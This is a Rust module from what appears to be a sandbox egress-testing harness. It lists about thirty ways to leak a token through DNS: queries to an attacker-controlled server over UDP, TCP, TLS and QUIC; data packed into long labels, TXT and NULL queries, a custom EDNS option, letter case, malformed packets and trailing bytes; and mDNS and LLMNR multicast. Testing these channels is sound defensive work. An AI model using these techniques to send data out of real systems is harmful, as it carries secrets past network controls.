//! Questions for names: asked of other servers, by other ways, or with data in them.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};

use super::{Attack, token, wire};
use crate::attack::{
    aim::{Aim, GOOD4, GOOD6, WIRE},
    call::{Done, Name, Sock, stop},
    packet::question,
};

const A: u16 = 1;
const TXT: u16 = 16;
const NULL: u16 = 10;

/// For a name that tells the token.
fn told(aim: &Aim<'_>, kind: u16) -> Vec<u8> {
    question(&[&aim.token(), b"collect", b"example"], kind, &[])
}

fn udp(to: SocketAddr, bytes: &[u8]) -> Done {
    let socket = if to.is_ipv4() { Sock::udp4()? } else { Sock::udp6()? };
    socket.send_to(to, bytes)
}

fn tcp(to: SocketAddr, bytes: &[u8]) -> Done {
    let socket = if to.is_ipv4() { Sock::tcp4()? } else { Sock::tcp6()? };
    socket.connect(to)?;
    let mut framed = u16::try_from(bytes.len()).unwrap_or_default().to_be_bytes().to_vec();
    framed.extend(bytes);
    socket.send(&framed)
}

/// Of the server that every program of this host asks.
fn system(aim: &Aim<'_>, bytes: &[u8]) -> Done {
    match aim.brief.resolver {
        Some(server) => udp((server, 53).into(), bytes),
        None => stop("resolv.conf", libc::ENOENT),
    }
}

const GROUP4: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)), 5353);
const LLMNR: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 252)), 5355);

/// What a client says of itself beside the question: an option that nobody defined.
fn extra(aim: &Aim<'_>) -> Vec<u8> {
    let token = aim.token();
    let size = |more: usize| u16::try_from(token.len() + more).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![0, 0, 41, 16, 0, 0, 0, 0, 0];
    bytes.extend(size(4));
    bytes.extend([0xfd, 0xe9]);
    bytes.extend(size(0));
    bytes.extend(token);
    bytes
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("o-udp", "a server of one's own, UDP", |aim| udp((aim.bad4(), 53).into(), &told(aim, A))),
    wire("o-udp6", "a server of one's own, UDP over IPv6", |aim| udp((aim.bad6(), 53).into(), &told(aim, A))),
    wire("o-udp-mapped", "a server of one's own, UDP in mapped form", |aim| {
        udp((aim.bad4().to_ipv6_mapped(), 53).into(), &told(aim, A))
    }),
    wire("o-udp-peer", "a server of one's own, UDP as a peer", |aim| {
        let socket = Sock::udp4()?;
        socket.connect(SocketAddr::from((aim.bad4(), 53)))?;
        socket.send(&told(aim, A))
    }),
    wire("o-udp-many", "two servers in one call", |aim| {
        let (first, second) = (Name::of((GOOD4, 53).into()), Name::of((aim.bad4(), 53).into()));
        let question = told(aim, A);
        Sock::udp4()?.send_two((&first, &question), (&second, &question))
    }),
    wire("o-tcp", "a server of one's own, TCP", |aim| tcp((aim.bad4(), 53).into(), &told(aim, A))),
    wire("o-tcp6", "a server of one's own, TCP over IPv6", |aim| tcp((aim.bad6(), 53).into(), &told(aim, A))),
    wire("o-tcp-fastopen", "a server of one's own, MSG_FASTOPEN", |aim| {
        let to = SocketAddr::from((aim.bad4(), 53));
        Sock::tcp4()?.send_to_flagged(to, &told(aim, A), libc::MSG_FASTOPEN)
    }),
    wire("o-tls", "a server of one's own over TLS", |aim| tcp((aim.bad4(), 853).into(), &told(aim, A))),
    wire("o-quic", "a server of one's own over QUIC", |aim| udp((aim.bad4(), 853).into(), &told(aim, A))),
    token("o-allowed", "a server at an allowed address", |aim| udp((GOOD4, 53).into(), &told(aim, A))),
    token("o-allowed6", "a server at an allowed IPv6 address", |aim| udp((GOOD6, 53).into(), &told(aim, A))),
    token("o-allowed-tcp", "a server at an allowed address, TCP", |aim| {
        tcp((GOOD4, 53).into(), &told(aim, A))
    }),
    token("o-system", "a name that is not listed, asked of the system's server", |aim| {
        system(aim, &told(aim, A))
    }),
    token("o-tunnel", "data in the labels of a long name", |aim| {
        let data = [b'a'; 60];
        system(aim, &question(&[&data, &data, &aim.token(), b"t", b"example"], A, &[]))
    }),
    token("o-text", "a question for text (TXT)", |aim| system(aim, &told(aim, TXT))),
    token("o-null", "a question of a type that carries anything (NULL)", |aim| system(aim, &told(aim, NULL))),
    token("o-extra", "data in an option beside the question", |aim| {
        system(aim, &question(&[b"www", b"example"], A, &extra(aim)))
    }),
    token("o-case", "data in capital letters", |aim| {
        let label = aim.token().to_ascii_uppercase();
        system(aim, &question(&[&label, b"Collect", b"eXample"], A, &[]))
    }),
    token("o-update", "an update instead of a question", |aim| {
        let mut bytes = told(aim, 6);
        bytes[2] = 0x28;
        system(aim, &bytes)
    }),
    token("o-answer", "an answer instead of a question", |aim| {
        let mut bytes = told(aim, A);
        bytes[2] = 0x81;
        system(aim, &bytes)
    }),
    token("o-reverse", "the name of an address", |aim| {
        system(aim, &question(&[&aim.token(), b"in-addr", b"arpa"], 12, &[]))
    }),
    token("o-trailing", "data behind the question", |aim| {
        let mut bytes = question(&[b"www", b"example"], A, &[]);
        bytes.extend(aim.token());
        system(aim, &bytes)
    }),
    token("o-nonsense", "no question at all, to port 53", |aim| system(aim, &aim.token())),
    token("o-other-class", "a question of another class", |aim| {
        let mut bytes = told(aim, TXT);
        let end = bytes.len();
        bytes[end - 1] = 3;
        system(aim, &bytes)
    }),
    token("o-mdns", "a question to the link (mDNS)", |aim| udp(GROUP4, &told(aim, A))),
    token("o-mdns6", "a question to the link (mDNS over IPv6)", |aim| {
        let group = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb);
        udp(SocketAddrV6::new(group, 5353, 0, WIRE).into(), &told(aim, A))
    }),
    token("o-llmnr", "a question to the link (LLMNR)", |aim| udp(LLMNR, &told(aim, A))),
];
